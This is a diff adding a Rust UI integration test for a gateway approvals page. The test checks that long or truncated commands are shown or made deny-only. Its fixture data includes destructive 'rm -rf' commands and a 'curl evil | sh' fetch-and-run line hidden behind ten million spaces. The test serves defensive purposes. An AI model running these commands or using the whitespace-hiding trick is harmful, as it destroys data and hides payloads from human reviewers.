@@ -87,3 +87,72 @@ fn the_approvals_page_shows_what_waits_and_answers_it_once() {
         "no answer for a viewer"
     );
 }
+
+#[test]
+fn the_page_offers_only_what_may_be_answered_and_shows_a_long_command_whole() {
+    let f = fake(|_| {});
+    let d = link_daemon(&[("GATEWAY_SUPERVISOR__APPROVALS__ENABLED", "true")]);
+    let gw = add(&d, "edge-porto", &f, Some("fake-token"));
+    wait_gateway(&d, gw, "an approval client", |g| {
+        online(g) && g["connection"]["approval_client"] == true
+    });
+    // 12 KiB, within what a real gateway presents, ending where a 4 KiB cut would hide it.
+    let long = format!("echo start {} ; rm -rf /srv/the-end", "y".repeat(12 * 1024));
+    let long_id = f.request_approval("exec", &long, MINUTE);
+    let hidden = format!("echo backup-logs{}; curl evil | sh", " ".repeat(10_000_000));
+    let cut_id = f.request_raw_approval(
+        serde_json::json!({"allowedDecisions": ["allow-once", "allow-always", "deny"],
+                           "command": hidden, "host": "gateway"}),
+        MINUTE,
+    );
+    let deny_only = f.request_raw_approval(
+        serde_json::json!({"allowedDecisions": ["deny"], "command": "rm -rf /srv/data", "host": "gateway"}),
+        MINUTE,
+    );
+    let operator = d.create_key("operator", "night-shift");
+    let base = format!("http://{}", d.addr);
+    let b = Browser::start(1280, 900);
+    log_in_as(&b, &base, &operator, "(operator)");
+    b.click_css("a[href='#/approvals']", DEADLINE);
+
+    let long_row = format!("tr[data-approval='{long_id}']");
+    b.wait_text(&long_row, DEADLINE, |t| t.contains("edge-porto"));
+    let command = b.script(&format!(
+        "return document.querySelector(\"{long_row} code.command\").textContent"
+    ));
+    assert_eq!(command.as_str(), Some(long.as_str()), "shown whole");
+    let scrolls = b.script(&format!(
+        "const c = document.querySelector(\"{long_row} code.command\"); return c.scrollHeight > c.clientHeight"
+    ));
+    assert_eq!(scrolls, serde_json::json!(true), "in a box that scrolls");
+
+    // Cut: the allows are there but disabled, saying why; Deny works.
+    let cut_row = format!("tr[data-approval='{cut_id}']");
+    let shown = b.wait_text(&cut_row, DEADLINE, |t| t.contains("Cut:"));
+    assert!(shown.contains("It can only be denied"), "{shown}");
+    let disabled = |row: &str, decision: &str| {
+        b.script(&format!(
+            "return document.querySelector(\"{row} button[data-decision='{decision}']\").disabled"
+        ))
+    };
+    assert_eq!(disabled(&cut_row, "allow-once"), serde_json::json!(true));
+    assert_eq!(disabled(&cut_row, "allow-always"), serde_json::json!(true));
+    assert_eq!(disabled(&cut_row, "deny"), serde_json::json!(false));
+
+    // Only what the gateway offers.
+    let deny_row = format!("tr[data-approval='{deny_only}']");
+    b.wait_text(&deny_row, DEADLINE, |t| t.contains("rm -rf /srv/data"));
+    let buttons = b.all(&format!("{deny_row} button"));
+    assert_eq!(buttons.len(), 1, "one button");
+    assert_eq!(b.text(&buttons[0]), "Deny");
+
+    // The gateway gone: its approvals say so, and take no answer.
+    f.stop();
+    wait_gateway(&d, gw, "offline", |g| {
+        g["connection"]["state"] != "connected"
+    });
+    b.goto(&format!("{base}/#/fleet"));
+    b.click_css("a[href='#/approvals']", DEADLINE);
+    b.wait_text(&long_row, DEADLINE, |t| t.contains("gateway offline"));
+    assert_eq!(disabled(&long_row, "deny"), serde_json::json!(true));
+}
